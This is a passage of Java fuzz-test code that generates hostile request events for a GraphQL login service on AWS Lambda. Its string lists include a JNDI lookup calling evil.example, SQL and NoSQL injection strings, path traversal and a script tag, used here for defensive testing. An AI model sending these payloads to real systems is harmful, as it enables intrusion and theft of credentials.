            case 9 -> pick(random, "İstanbul", "ǅemal", "ſtrasse", "ß" + nonce.substring(0, 4), "Ⅻ" + nonce.substring(0, 4),
                    "ﬁle" + nonce.substring(0, 4), "K" + nonce.substring(0, 4));
            case 10 -> "../../" + nonce;
            case 11 -> "${jndi:ldap://evil.example/a}";
            case 12 -> "<script>alert(1)</script>";
            case 13 -> "%00%27" + nonce;
            case 14 -> "  U" + nonce.substring(0, Math.min(8, nonce.length())).toUpperCase() + "  ";
            default -> "u." + nonce.substring(0, Math.min(6, nonce.length())) + "_-";
        };
    }

    /** Passwords: each carries a random part, so that finding it in a log means it leaked. */
    static String secretPassword(Random random) {
        String nonce = Long.toString(random.nextLong() & Long.MAX_VALUE, 36) + "Q";
        return switch (random.nextInt(10)) {
            case 0 -> "' OR '1'='1' -- " + nonce;
            case 1 -> "{\"$ne\":null}" + nonce;
            case 2 -> "\u202E" + nonce + "\u200b\u200d";
            case 3 -> "é".repeat(30) + nonce;
            case 4 -> nonce + "x".repeat(pick(random, 1, 60, 10_000));
            case 5 -> nonce + "\u0000" + nonce;
            case 6 -> "\uD83D\uDE00" + nonce + "\uD800";
            case 7 -> nonce + "${jndi:ldap://evil.example/x}";
            case 8 -> nonce.substring(0, Math.min(nonce.length(), 7));
            default -> "correct horse " + nonce;
        };
    }

    // ---------------------------------------------------------------- methods and paths

    static Hostile methodsAndPaths(Random random, Victim victim) {
        ObjectNode event = template(randomTemplate(random));
        String method = pick(random, "post", "PoSt", "GET", "get", "PUT", "DELETE", "PATCH", "HEAD", "TRACE", "CONNECT",
                "OPTIONS", "", " POST", "POST ", "PO\u0000ST", "ПОСТ", "P".repeat(5_000));
        String path = pick(random, "/graphql", "/graphql/", "/GRAPHQL", "/graphql%00", "//graphql", "/graphql/../graphql",
                "/graphql?query={__typename}", "", "/", "graphql", "/graphql\u0000", "/" + "a".repeat(10_000),
                "/graphql/\u202e", "/prod/graphql");
        event.put("httpMethod", method);
        event.put("path", path);
        if (random.nextBoolean()) {
            ObjectNode single = event.putObject("queryStringParameters");
            ObjectNode multi = event.putObject("multiValueQueryStringParameters");
            String query = pick(random, "{ __typename }", "mutation { logout }", "", "{", "query { loggedInUser { id } }",
                    "mutation($u: String!, $p: String!) { register(username: $u, password: $p) { accessToken } }");
            single.put("query", query);
            ArrayNode values = multi.putArray("query").add(query);
            if (random.nextBoolean()) {
                values.add(pick(random, "mutation { logout }", "{ __typename }"));
            }
            if (random.nextBoolean()) {
                single.put("variables", pick(random, "{", "[]", "null", "{\"u\":\"x\",\"p\":\"yyyyyyyyyyy\"}", "1"));
            }
            if (random.nextBoolean()) {
                single.put("operationName", pick(random, "", "x", "null"));
            }
        }
        return new Hostile("methods-and-paths", method.length() > 40 ? "long method" : method + " " + abbreviate(path),
                bytes(event), false, Expect.ANY, List.of());
    }

    // ---------------------------------------------------------------- helpers

    /** A genuinely signed access token for a user that does not exist: valid-looking, harmless. */
    static String ghostToken(Random random) {
        String id = new java.util.UUID(random.nextLong(), random.nextLong()).toString();
        return LambdaHarness.tokens(Duration.ZERO).issue(new Principal(id, "ghost-" + id.substring(0, 8), 0, "ghost"))
                .accessToken();
    }

    static ObjectNode withToken(Random random, ObjectNode event, String token) {
        if (random.nextBoolean()) {
            setHeader(event, "x-access-token", token);
        }
        return event;
    }

    static void setHeader(ObjectNode event, String name, String value) {
        headerObject(event, "headers").put(name, value);
        headerObject(event, "multiValueHeaders").putArray(name).add(value);
    }

    private static void removeHeader(ObjectNode event, String name) {
        for (String map : List.of("headers", "multiValueHeaders")) {
            if (event.get(map) instanceof ObjectNode object) {
                List<String> names = new ArrayList<>();
                object.propertyNames().forEach(names::add);
                names.stream().filter(n -> n.equalsIgnoreCase(name)).forEach(object::remove);
            }
        }
    }

    private static ObjectNode headerObject(ObjectNode event, String field) {
        return event.get(field) instanceof ObjectNode node ? node : event.putObject(field);
    }

    private static void setQuery(Random random, ObjectNode event, String query) {
        setQueryAndVariables(random, event, query, null);
    }

    /** POST with a JSON body, or GET with query parameters (no body cap applies to those). */
    private static void setQueryAndVariables(Random random, ObjectNode event, String query, String variables) {
        if (random.nextBoolean()) {
            String body = "{\"query\":" + Event.JSON.writeValueAsString(query)
                    + (variables == null ? "" : ",\"variables\":" + variables) + "}";
            event.put("body", body);
        } else {
            event.put("httpMethod", "GET");
            event.putNull("body");
            ObjectNode single = event.putObject("queryStringParameters");
            ObjectNode multi = event.putObject("multiValueQueryStringParameters");
            single.put("query", query);
            multi.putArray("query").add(query);
            if (variables != null) {
                single.put("variables", variables);
                multi.putArray("variables").add(variables);
            }
        }
    }

    private static JsonNode wrongValue(Random random) {
        return switch (random.nextInt(9)) {
            case 0 -> NODES.numberNode(random.nextInt());
            case 1 -> NODES.numberNode(random.nextDouble() * 1e300);
            case 2 -> NODES.booleanNode(random.nextBoolean());
            case 3 -> NODES.nullNode();
            case 4 -> NODES.arrayNode().add("POST").add(1).addNull();
            case 5 -> NODES.objectNode().put("query", "{ __typename }").set("nested", NODES.arrayNode());
            case 6 -> NODES.stringNode(pick(random, "yes", "TRUE", "1", "", "{}", "[]"));
            case 7 -> NODES.arrayNode();
            default -> NODES.objectNode();
        };
    }

    private static String randomTemplate(Random random) {
        return pick(random, "register.json", "login.json", "logged-in-user.json", "logout.json",
                "logged-in-user-get.json", "preflight.json");
    }

    private static String oddCase(Random random, String name) {
        return switch (random.nextInt(4)) {
            case 0 -> name.toUpperCase();
            case 1 -> {
                var chars = name.toCharArray();
                for (int i = 0; i < chars.length; i++) {
                    chars[i] = random.nextBoolean() ? Character.toUpperCase(chars[i]) : chars[i];
                }
                yield new String(chars);
            }
            case 2 -> name;
            default -> pick(random, name, " " + name, name + " ", name.replace('-', '_'), name + "\u0000");
        };
    }

    private static byte[] invalidUtf8(Random random) {
        return switch (random.nextInt(7)) {
            case 0 -> new byte[] {(byte) 0xC3, (byte) 0x28};
            case 1 -> new byte[] {(byte) 0xC0, (byte) 0xAF};
            case 2 -> new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80};
            case 3 -> new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80};
            case 4 -> new byte[] {(byte) 0xFF};
            case 5 -> new byte[] {(byte) 0xE2, (byte) 0x82};
            default -> new byte[] {(byte) 0x80};
        };
    }

    private static byte[] insert(byte[] into, int at, byte[] what) {
        byte[] result = new byte[into.length + what.length];
        System.arraycopy(into, 0, result, 0, at);
        System.arraycopy(what, 0, result, at, what.length);
        System.arraycopy(into, at, result, at + what.length, into.length - at);
        return result;
    }

    private static Hostile raw(String description, byte[] bytes, List<String> secrets) {
        return new Hostile("raw-bytes", description, bytes, true, Expect.ANY, secrets);
    }

    static String b64(String json) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }

    static byte[] bytes(JsonNode event) {
        return utf8(event.toString());
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String abbreviate(String text) {
        return text.length() > 600 ? text.substring(0, 600) + "...(" + text.length() + " chars)" : text.length() > 80 && !text.contains(" parts, ") ? text.substring(0, 80) + "...(" + text.length() + " chars)" : text;
    }


    @SafeVarargs
    static <T> T pick(Random random, T... options) {
        return options[random.nextInt(options.length)];
    }
}
